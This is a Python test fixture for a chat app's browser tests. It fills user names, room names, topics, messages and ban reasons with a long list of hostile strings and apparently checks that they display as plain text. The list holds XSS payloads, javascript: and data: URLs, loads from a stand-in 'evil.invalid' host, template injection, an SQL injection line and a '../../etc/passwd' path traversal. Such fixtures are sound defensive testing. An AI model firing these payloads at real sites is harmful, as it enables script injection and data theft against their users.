"""What people with bad intentions, or none, call themselves and their rooms. Each is a text, and must stay one.

Those that try to run something would set `__pwned`; addresses that they would fetch are of no host that exists.
"""

from __future__ import annotations

from bus.protocol.terms import check_label
from tests.browser.crowd import Guest, guest
from tests.browser.serving import Server

PAYLOADS = (
    "<script>__pwned=1</script>",
    "<ScRiPt>__pwned=1</sCrIpT>",
    "<script src=//evil.invalid/x></script>",
    "</script><script>__pwned=1</script>",
    "<script/x>__pwned=1</script>",
    "<<script>__pwned=1//<</script>",
    "<img src=x onerror=__pwned=1>",
    "<img src=//evil.invalid/a.png>",
    "<img/src=x/onerror=__pwned=1>",
    "<IMG SRC=x OnErRoR=__pwned=1>",
    "<img src=`x` onerror=__pwned=1>",
    "<img srcset=//evil.invalid/b>",
    '"><img src=x onerror=__pwned=1>',
    "'><img src=x onerror=__pwned=1>",
    "--><img src=x onerror=__pwned=1>",
    "]]><img src=x onerror=__pwned=1>",
    "</textarea><img src=x onerror=__pwned=1>",
    "</template><img src=x onerror=__pwned=1>",
    "</title><img src=x onerror=__pwned=1>",
    "</style><img src=x onerror=__pwned=1>",
    "</bdi></li><img src=x onerror=__pwned=1>",
    "<svg onload=__pwned=1>",
    "<svg><script>__pwned=1</script></svg>",
    "<svg><animate onbegin=__pwned=1>",
    "<svg><use href=//evil.invalid/s#x>",
    "<math><mtext><img src=x onerror=__pwned=1>",
    "<body onload=__pwned=1>",
    "<iframe src=javascript:__pwned=1>",
    "<iframe srcdoc='<script>__pwned=1'>",
    "<object data=//evil.invalid/o>",
    "<embed src=//evil.invalid/e>",
    "<link rel=stylesheet href=//evil.invalid>",
    "<style>@import'//evil.invalid'</style>",
    "<style>*{display:none}</style>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content=0>",
    "<form action=//evil.invalid><button>",
    "<input autofocus onfocus=__pwned=1>",
    "<details open ontoggle=__pwned=1>",
    "<video src=x onerror=__pwned=1>",
    "<audio src=//evil.invalid/a autoplay>",
    "<marquee onstart=__pwned=1>x</marquee>",
    "<dialog open>hello</dialog>",
    "<a href=javascript:__pwned=1>x</a>",
    "[x](javascript:__pwned=1)",
    "[x](data:text/html,<script>1</script>)",
    "[x](//evil.invalid)",
    "![x](//evil.invalid/p.png)",
    "javascript:__pwned=1",
    "JaVaScRiPt:__pwned=1//",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    'https://a.invalid/" onmouseover="x',
    "http://a.invalid/'onclick='__pwned=1",
    "&lt;script&gt;__pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=__pwned=1&#62;",
    "{{constructor.constructor('1')()}}",
    "${__pwned=1}",
    "#{7*7}<%= 7*7 %>",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "null",
    "undefined",
    "[object Object]",
    "'; drop table users; --",
    "../../etc/passwd",
    "C:\\con\\nul.txt",
    "%00%0a%3Cscript%3E",
    "שלום <b>x</b>",
    "مرحبا 123 <i>",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
    "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽",
    "ﷺﷺﷺﷺﷺﷺ",
    "WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW",
    "\u202etxt.exe\u202c<b>",
    "a\u200bb\ufeffc<b>",
)


def fits(payload: str, most: int) -> bool:
    """Whether the server takes it as a name."""
    try:
        check_label(payload)
    except ValueError:
        return False
    return len(payload) <= most


NAMES = tuple(payload for payload in PAYLOADS if fits(payload, 40))
ROOM_NAMES = tuple(payload for payload in PAYLOADS if fits(payload, 60))
NOTES, REASONS, PLATFORMS = NAMES[::7], NAMES[1:9:2], ("<img src=x onerror=__pwned=1>", "__proto__", "<svg onload=__pwned=1>")


def fill(host: Guest, server: Server) -> str:
    """Every name, mood, topic, note, reason and text is from the zoo; returns an invite for the one who looks at it all."""
    invite = host.ask("admin.invite_create", max_uses=len(NAMES) + 1, note=PAYLOADS[0])["invite_token"]
    for note in NOTES:
        host.ask("admin.invite_create", note=note)
    rooms = [
        host.ask("room.create", kind="public", name=name, topic=topic)["room"]["room_id"]
        for name, topic in zip(ROOM_NAMES, reversed(ROOM_NAMES), strict=True)
    ]
    zoo = host.ask("room.create", kind="public", name="Zoo", topic=PAYLOADS[0])["room"]["room_id"]
    for number, name in enumerate(NAMES):
        with guest(server, invite, f"guest{number}", name) as one:
            one.ask("room.join", room_id=zoo)
            one.ask("presence.set", status="busy", text=NAMES[-number])
            one.ask("msg.send", room_id=zoo, text=PAYLOADS[number], attachments=[{"name": name}])
            one.ask("room.join", room_id=rooms[number])
            mine = one.ask("msg.send", room_id=rooms[number], text="here")
            one.ask("msg.react", msg_id=mine["msg_id"], emoji="".join(name.split())[:16], on=True)
            if number % 2:
                one.ask("room.leave", room_id=zoo)
    members = host.ask("room.members", room_id=zoo)["members"]
    for member, reason in zip(members[-1 - len(REASONS) : -1], REASONS, strict=True):
        host.ask("room.ban", room_id=zoo, user_id=member["user_id"], reason=reason)
    return str(invite)
